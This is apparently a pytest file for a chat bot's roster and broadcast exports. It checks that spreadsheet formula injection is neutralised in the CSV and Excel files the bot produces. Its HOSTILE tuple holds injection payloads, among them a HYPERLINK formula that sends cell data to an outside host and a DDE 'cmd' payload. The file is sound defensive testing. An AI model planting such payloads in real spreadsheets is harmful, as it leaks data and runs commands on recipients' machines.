"""Point 2: every CSV and XLSX the bot hands out goes through one writer; no cell is a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import func, insert, update

from bot.config import ROOT
from bot.services.broadcast import report_csv
from bot.services.privacy.safe_files import FORMULA_START, neutralise
from bot.services.roster_import import ImportReport, Rejected
from bot.storage.broadcast import NotReachedRow
from bot.storage.tables.core import boats, households, persons
from handlers.roster_file import rejections_file
from tests.driver import ChatDriver
from tests.privacy.conftest import Small

HOSTILE = (
    '=HYPERLINK("http://x.io/"&F2)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def assert_inert(cells: list[object]) -> None:
    texts = [c for c in cells if isinstance(c, str)]
    assert texts and not [c for c in texts if c.startswith(FORMULA_START)], texts


async def poison(small: Small) -> None:
    """Every free-text column of the roster starts like a formula."""
    async with small.app.db.write() as tx:
        boat = await tx.execute(insert(boats).values(registration=HOSTILE[3][:40]))
        await tx.execute(
            update(households).values(
                code=func.substr(HOSTILE[1], 1, 20).concat(households.c.id), address=HOSTILE[4]
            )
        )
        await tx.execute(
            update(persons).values(
                full_name=HOSTILE[0], note=HOSTILE[2], boat_id=boat.inserted_primary_key[0]
            )
        )


async def test_roster_exports_in_both_formats_have_no_live_formula(
    small: Small, lead: ChatDriver
) -> None:
    await poison(small)
    for label in ("Toàn bộ danh sách, CSV", "Người còn thiếu, CSV"):
        await lead.say("/export")
        await lead.press("Cả xã")
        replies = await lead.press(label)
        cells = csv_cells(replies[0].document.data)  # type: ignore[union-attr]
        assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[3] in cells
        assert_inert(cells)
    for label in ("Toàn bộ danh sách, Excel", "Người còn thiếu, Excel"):
        await lead.say("/export")
        await lead.press("Cả xã")
        replies = await lead.press(label)
        book = load_workbook(io.BytesIO(replies[0].document.data))  # type: ignore[union-attr]
        found = [cell for row in book.active.iter_rows() for cell in row]
        assert {cell.data_type for cell in found if isinstance(cell.value, str)} == {"s"}
        assert_inert([cell.value for cell in found])
        assert any(str(cell.value).startswith("'+cmd") for cell in found)


def test_the_broadcast_not_reached_csv_neutralises_every_column() -> None:
    rows = [NotReachedRow(h, h, h, h, None, "0912345678", None) for h in HOSTILE]
    cells = csv_cells(report_csv(rows))
    assert_inert(cells)
    assert "'" + HOSTILE[0] in cells


def test_the_rejected_rows_csv_neutralises_reasons() -> None:
    report = ImportReport(rejected=[Rejected(n, h) for n, h in enumerate(HOSTILE * 5)])
    attachment = rejections_file(report)
    assert attachment is not None
    assert_inert(csv_cells(attachment.data))


def test_neutralise_keeps_numbers_and_plain_text() -> None:
    assert [neutralise(v) for v in (3, None, "An", "0912", "a=b")] == [
        3,
        None,
        "An",
        "0912",
        "a=b",
    ]
    assert neutralise("=1") == "'=1" and neutralise("\t1") == "'\t1"


def test_no_module_writes_csv_or_xlsx_but_the_safe_writer() -> None:
    writers = re.compile(r"csv\.writer|csv\.DictWriter|Workbook\(")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("bot", "handlers", "reminders")
        for path in Path(ROOT / folder).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
        and path.name != "safe_files.py"
        and "testing" not in path.parts
    ]
    assert offenders == []
